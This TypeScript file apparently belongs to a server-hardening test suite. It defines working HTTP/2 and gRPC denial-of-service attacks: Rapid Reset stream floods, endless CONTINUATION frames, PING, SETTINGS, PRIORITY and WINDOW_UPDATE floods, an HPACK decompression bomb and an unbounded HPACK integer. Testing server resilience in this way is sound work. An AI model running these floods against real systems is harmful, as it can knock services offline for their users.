import type { Answer } from "./answers.ts";
import type { Attack, Form } from "./attack.ts";
import { FRAME, SETTING, toFrame, toHeaders, toReset, toSettings, toWindowUpdate } from "./frames.ts";
import { encodeFields, encodeInteger, encodeText } from "./hpack.ts";
import { GET_USER, inParallel, orUnanswered, toFields } from "./messages.ts";
import { connectPeer } from "./peer.ts";

const PORTS = ["grpc", "http"] as const;
type Port = (typeof PORTS)[number];
const CANCEL = 8;
/** How a connection that misbehaves may end, and that it may be let alone. */
const ENDINGS = ["GOAWAY *", "CLOSED"];
const HARMLESS = [...ENDINGS, "UNANSWERED"];

/** Writes to connections again and again, and reconnects; answers how each connection ended. */
async function flood(
  port: number,
  { count, ms }: Form,
  next: (round: number) => Uint8Array,
): Promise<Answer[]> {
  const end = performance.now() + ms;
  const endings = await inParallel(count, async () => {
    const own: Answer[] = [];
    do {
      using peer = await connectPeer(port);
      for (let round = 0; peer.isOpen() && performance.now() < end; round++) {
        await peer.write(next(round));
        // Else what is written at full speed never lets the socket be read.
        await new Promise(setImmediate);
      }
      own.push(await orUnanswered(peer.closed, performance.now() < end ? 100 : 0));
    } while (performance.now() < end);
    return own;
  });
  return endings.flat();
}

/** Opens calls and gives them up at once. */
const rapidReset = (port: Port): Attack => ({
  name: `rapid-reset-${port}`,
  what: `calls that are given up as soon as they are made, from four connections, on the ${port} port`,
  mode: "open",
  answers: HARMLESS,
  due: ENDINGS,
  // Until a busy machine has weighed the resets.
  small: { count: 4, ms: 800 },
  long: { count: 4, ms: 10_000 },
  play: (target, form) =>
    flood(target[port], form, (round) => {
      const fields = toFields("gRPC", GET_USER);
      return Buffer.concat(
        Array.from({ length: 50 }, (_, index) => {
          const id = (round * 50 + index) * 2 + 1;
          return Buffer.concat([toHeaders(id, fields), toReset(id, CANCEL)]);
        }),
      );
    }),
});

type Frames = readonly [name: string, what: string, next: (round: number) => Uint8Array];
const many = (frame: Uint8Array): Buffer => Buffer.concat(Array.from({ length: 500 }, () => frame));
const opening = encodeFields(toFields("gRPC", GET_USER));
const bomb = Buffer.concat([
  // A long field that is kept in the table, and then named in a byte, again and again.
  Buffer.of(0x40),
  encodeText("x"),
  encodeText("y".repeat(4_000)),
  Buffer.alloc(12_000, 0x80 + 62),
]);

const frames: readonly Frames[] = [
  [
    "continuation",
    "CONTINUATION frames without an end",
    (round) =>
      round === 0
        ? toFrame(FRAME.headers, 0, 1, opening)
        : many(toFrame(FRAME.continuation, 0, 1, encodeFields([["x", "y".repeat(100)]]))),
  ],
  [
    "empty-continuation",
    "empty CONTINUATION frames",
    (round) =>
      round === 0 ? toFrame(FRAME.headers, 0, 1, opening) : many(toFrame(FRAME.continuation, 0, 1)),
  ],
  ["ping", "PING frames", () => many(toFrame(FRAME.ping, 0, 0, Buffer.alloc(8)))],
  ["settings", "SETTINGS frames", () => many(toSettings([[SETTING.initialWindow, 65_535]]))],
  ["priority", "PRIORITY frames", () => many(toFrame(FRAME.priority, 0, 1, Buffer.alloc(5)))],
  ["window", "WINDOW_UPDATE frames", () => many(toWindowUpdate(0, 1))],
  [
    "empty-data",
    "empty DATA frames",
    (round) => (round === 0 ? toHeaders(1, toFields("gRPC", GET_USER)) : many(toFrame(FRAME.data, 0, 1))),
  ],
  [
    "hpack",
    "headers that are a thousand times as long as their bytes",
    (round) => toFrame(FRAME.headers, 4, round * 2 + 1, Buffer.concat([opening, bomb])),
  ],
  [
    "hpack-integer",
    "a header whose length has no end",
    (round) =>
      toFrame(FRAME.headers, 4, round * 2 + 1, Buffer.concat([Buffer.of(0), encodeInteger(2 ** 50, 7)])),
  ],
];

const frameFloods = frames.map(([name, what, next]): Attack => ({
  name: `${name}-flood`,
  what: `${what}, on both ports`,
  mode: "open",
  answers: HARMLESS,
  small: { count: 2, ms: 100 },
  long: { count: 4, ms: 5_000 },
  play: async (target, form) => {
    const answers: Answer[] = [];
    for (const port of PORTS) answers.push(...(await flood(target[port], form, next)));
    return answers;
  },
}));

/** Attacks below the calls: on connections and by frames. */
export const floods: readonly Attack[] = [...PORTS.map(rapidReset), ...frameFloods];
